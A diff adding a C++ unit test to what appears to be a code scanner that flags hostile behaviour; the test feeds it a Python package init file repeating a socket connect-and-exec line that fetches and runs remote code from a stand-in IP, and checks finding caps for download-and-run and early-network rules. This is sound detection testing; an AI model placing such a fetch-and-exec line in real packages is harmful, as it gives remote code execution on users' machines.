@@ -278,5 +278,21 @@ TEST(Behaviour, EndsWithHostileInput) {
   findings_in("g.py", "# " + replace_all(std::string(200'000, 'x'), "x", "\xF3\xA0\x81\xA1") + "\n");
 }
 
+TEST(HostileInput, OfVeryManyPlacesSoManyAreLookedAtAndTheRestIsSaid) {
+  std::string text = "import socket\ns = socket.socket()\n";
+  for (int i = 0; i < 6000; ++i) text += "s.connect(('192.0.2.1', 5)); exec(s.recv(5))\n";
+  auto& [set, engine, scratch] = setting();
+  const ExaminedFile file{"pkg/__init__.py", text, PathRole::shipped};
+  const auto hits = engine.scan(text, scratch).value();
+  std::vector<Finding> findings;
+  set.gates.front()->examine(file, hits.front().hits, findings);
+  for (const std::string rule : {"behaviour/download-and-run", "behaviour/early-network"}) {
+    EXPECT_EQ(std::ranges::count(findings, rule, &Finding::rule), 5000) << rule;
+    EXPECT_EQ(std::ranges::count_if(findings, [&](const Finding& finding) {
+                return finding.rule == "behaviour/too-many-places" && finding.excerpt == rule;
+              }), 1) << rule;
+  }
+}
+
 }  // namespace
 }  // namespace assay::behaviour
